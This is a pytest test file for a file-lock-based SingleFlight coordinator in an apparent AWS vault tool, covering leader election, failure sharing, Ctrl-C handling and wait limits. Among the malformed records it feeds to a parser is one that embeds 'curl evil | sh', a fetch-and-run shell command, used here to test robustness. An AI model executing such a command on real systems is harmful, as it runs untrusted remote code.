"""SingleFlight inside one process: limits, and outcomes between threads."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from types import MappingProxyType

import pytest

from support.busy import seconds
from support.flying import flights, network_failure, nothing, one, put, sign
from vault_core.errors import AccessDenied, Cancelled, MfaError, PassphraseError, SessionError, VaultError
from vault_core.sessions import singleflight
from vault_core.sessions.singleflight import Flight, SingleFlight, TakenOver, Waiting
from vault_testkit.clock import FakeClock

# -- the leader --------------------------------------------------------------------------------------------------------


def test_the_first_one_leads(tmp_path: Path) -> None:
    assert flights(tmp_path / "new").run("step", nothing, lambda _: "made") == "made"
    assert [path.name for path in (tmp_path / "new").iterdir()] == ["step.lock"]
    assert (tmp_path / "new").stat().st_mode & 0o077 == 0


def test_what_is_there_is_taken(tmp_path: Path) -> None:
    def lead(_: Flight) -> str:
        raise AssertionError("somebody leads")

    assert flights(tmp_path).run("step", lambda: "there", lead) == "there"


def test_of_many_threads_one_leads(tmp_path: Path) -> None:
    made: list[str] = []
    found: list[str | None] = []

    def lead(_: Flight) -> str:
        time.sleep(0.2)
        made.append("made")
        return "made"

    def work() -> None:
        found.append(flights(tmp_path).run("step", lambda: made[0] if made else None, lead))

    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert (made, found) == (["made"], ["made"] * 8)


def test_different_steps_do_not_wait_for_each_other(tmp_path: Path) -> None:
    outer = flights(tmp_path)
    assert outer.run("outer", nothing, lambda _: outer.run("inner", nothing, lambda _: "inner")) == "inner"


def test_a_leader_that_is_killed_leaves_the_lock(tmp_path: Path) -> None:
    program = (
        "import sys, time; from pathlib import Path; from vault_core.sessions.singleflight import SingleFlight;"
        f"SingleFlight(Path({str(tmp_path)!r}), 5, foreground=False, sign=str)"
        ".run('step', lambda: None, lambda led: (print(flush=True), time.sleep(60)))"
    )
    with subprocess.Popen([sys.executable, "-c", program], stdout=subprocess.PIPE) as leader:
        assert leader.stdout is not None
        leader.stdout.readline()
        assert one(tmp_path).leader() == (leader.pid, "waiting")
        leader.kill()
    assert flights(tmp_path).run("step", nothing, lambda _: "next") == "next"


# -- failures ----------------------------------------------------------------------------------------------------------


def test_a_failure_keeps_its_words_and_its_code(tmp_path: Path) -> None:
    with pytest.raises(AccessDenied):
        flights(tmp_path).run("step", nothing, network_failure(AccessDenied("AWS refused", hint="do this")))
    with pytest.raises(TakenOver) as caught:
        flights(tmp_path).run("step", nothing, lambda _: "made")
    assert caught.value.message == f"AWS refused (process {os.getpid()} tried)"
    assert (caught.value.hint, caught.value.exit_code) == ("do this", 6)


def test_a_failure_that_is_taken_over_names_who_tried_once(tmp_path: Path) -> None:
    with pytest.raises(AccessDenied):
        flights(tmp_path).run("inner", nothing, network_failure(AccessDenied("no")))
    for _ in range(2):
        with pytest.raises(VaultError) as caught:
            flights(tmp_path).run("outer", nothing, lambda _: flights(tmp_path).run("inner", nothing, str))
        assert caught.value.message.count("tried") == 1
    assert (tmp_path / "outer.failed").exists()


def test_a_person_is_not_refused_because_of_an_old_failure(tmp_path: Path) -> None:
    with pytest.raises(AccessDenied):
        flights(tmp_path).run("step", nothing, network_failure(AccessDenied("no")))
    assert flights(tmp_path, foreground=True).run("step", nothing, lambda _: "made") == "made"
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made", "the new leader removed the failure"


def test_a_failure_is_forgotten_after_a_while(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(AccessDenied):
        flights(tmp_path).run("step", nothing, network_failure(AccessDenied("no")))
    monkeypatch.setattr(singleflight, "QUIET", 0.0)
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


@pytest.mark.parametrize("error", [MfaError("nobody can be asked"), PassphraseError("not set"), Cancelled("stop")])
def test_who_asked_for_nothing_fails_alone(tmp_path: Path, error: VaultError) -> None:
    def lead(led: Flight) -> str:
        led.phase("question")
        raise error

    with pytest.raises(type(error)):
        flights(tmp_path).run("step", nothing, lead)
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


def test_who_asked_a_person_fails_for_all(tmp_path: Path) -> None:
    def lead(led: Flight) -> str:
        led.asked()
        raise MfaError("declined")

    with pytest.raises(MfaError):
        flights(tmp_path).run("step", nothing, lead)
    with pytest.raises(TakenOver, match="declined"):
        flights(tmp_path).run("step", nothing, lambda _: "made")


def test_ctrl_c_in_the_leader(tmp_path: Path) -> None:
    with pytest.raises(Cancelled):
        flights(tmp_path).run("step", nothing, network_failure(KeyboardInterrupt()))
    with pytest.raises(TakenOver) as caught:
        flights(tmp_path).run("step", nothing, lambda _: "made")
    assert caught.value.exit_code == 130


def test_a_bug_in_the_leader_is_its_own(tmp_path: Path) -> None:
    with pytest.raises(ZeroDivisionError):
        flights(tmp_path).run("step", nothing, network_failure(ZeroDivisionError()))
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        '"x"',
        "[" * 60_000,
        "x" * 200_000,
        '{"pid": [], "phase": "question"}',
        '{"pid": 1e999, "phase": "question"}',
        '{"pid": 9999999999999999999, "phase": "question"}',
        '{"pid": 1, "phase": "curl evil | sh"}',
        '{"record": "{}", "code": "\\u00e9"}',
        '{"record": "{}", "code": "\\ud800"}',
    ],
    ids=lambda text: text[:30],
)
def test_a_damaged_record_is_none(tmp_path: Path, text: str) -> None:
    put(tmp_path / "step.failed", text)
    put(tmp_path / "step.leader", text)
    assert one(tmp_path).leader() == (0, "")
    assert flights(tmp_path).run("step", nothing, lambda _: "made") == "made"


# -- Ctrl-C of who waits -----------------------------------------------------------------------------------------------


def test_ctrl_c_without_a_leader_is_only_ours(tmp_path: Path) -> None:
    began = time.monotonic()
    error = flights(tmp_path).interrupted("step")
    assert (error.message, error.exit_code) == ("interrupted", 130)
    assert time.monotonic() - began < seconds(1.5)


def test_ctrl_c_takes_the_outcome_of_the_leader_beside_us(tmp_path: Path) -> None:
    waiting = flights(tmp_path)
    led = one(tmp_path)

    leads, pressed = threading.Event(), threading.Event()

    def lead() -> None:
        with suppress(MfaError), led.leading():
            led.asked()
            leads.set()
            pressed.wait()
            time.sleep(0.2)
            raise MfaError("declined")

    leader = threading.Thread(target=lead)
    leader.start()
    leads.wait()
    pressed.set()
    error = waiting.interrupted("step")
    leader.join()
    assert (error.message, error.exit_code) == (f"declined (process {os.getpid()} tried)", 6)


def test_ctrl_c_does_not_wait_for_a_leader_elsewhere(tmp_path: Path) -> None:
    with subprocess.Popen(["sleep", "60"], start_new_session=True) as leader:
        put(tmp_path / "step.leader", json.dumps({"pid": leader.pid, "phase": "question"}))
        began = time.monotonic()
        assert flights(tmp_path).interrupted("step").message == "interrupted"
        assert time.monotonic() - began < seconds(1.5)
        leader.kill()


def test_cancel_ends_the_waiting_of_threads(tmp_path: Path) -> None:
    from filelock import FileLock

    ours = flights(tmp_path)
    threading.Timer(0.1, ours.cancel).start()
    with FileLock(tmp_path / "step.lock"), pytest.raises(Cancelled):
        ours.run("step", nothing, lambda _: "made")


# -- who waits ---------------------------------------------------------------------------------------------------------

LIMITS = {"network": 0.1, "question": 0.3, "waiting": 0.5}


@pytest.fixture
def clock(fake_clock: FakeClock, monkeypatch: pytest.MonkeyPatch) -> FakeClock:
    """Of who waits."""
    monkeypatch.setattr(singleflight, "time", fake_clock)
    return fake_clock


def waited(led: Flight, clock: FakeClock, happens: Mapping[float, Callable[[], None]] = MappingProxyType({})) -> float:
    """Seconds until the waiting ends.

    :param happens: what is done meanwhile, by the seconds after which.
    """
    waiting = Waiting(led, LIMITS)

    def wait() -> None:
        for hundredths in range(200):
            happens.get(hundredths / 100, nothing)()
            waiting.check()
            clock.sleep(0.01)

    with pytest.raises(SessionError, match=r"process \d+ holds this session and made no progress"):
        wait()
    return clock.monotonic()


@pytest.mark.parametrize(("phase", "limit"), LIMITS.items())
def test_each_phase_has_its_limit(tmp_path: Path, clock: FakeClock, phase: str, limit: float) -> None:
    led = one(tmp_path)
    led.phase(phase)
    assert waited(led, clock) == pytest.approx(limit, abs=0.02)


def test_a_leader_that_says_nothing_has_the_longest(tmp_path: Path, clock: FakeClock) -> None:
    assert waited(one(tmp_path), clock) == pytest.approx(LIMITS["waiting"], abs=0.02)


def test_the_clock_starts_again_with_a_new_phase(tmp_path: Path, clock: FakeClock) -> None:
    led = one(tmp_path)
    led.phase("question")
    found = waited(led, clock, {0.2: lambda: led.phase("network")})
    assert found == pytest.approx(0.2 + LIMITS["network"], abs=0.02)


def test_the_limits_come_from_the_question(tmp_path: Path) -> None:
    limits = SingleFlight(tmp_path, 45, foreground=False, sign=sign)._limits
    assert limits == {"network": 35, "question": 50, "waiting": 85}


@pytest.mark.parametrize(
    ("phase", "text"),
    [("question", "an answer to its question"), ("network", "AWS"), ("waiting", "another process")],
)
def test_a_person_is_told_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], phase: str, text: str
) -> None:
    monkeypatch.setattr(singleflight, "_NOTICE_AFTER", 0)
    led = one(tmp_path)
    led.phase(phase)
    waiting = Waiting(led, dict.fromkeys(LIMITS, 5.0))
    time.sleep(0.01)
    waiting.check()
    waiting.check()
    assert capfd.readouterr().err == f"awsv: waiting for process {os.getpid()}, which waits for {text}\n"
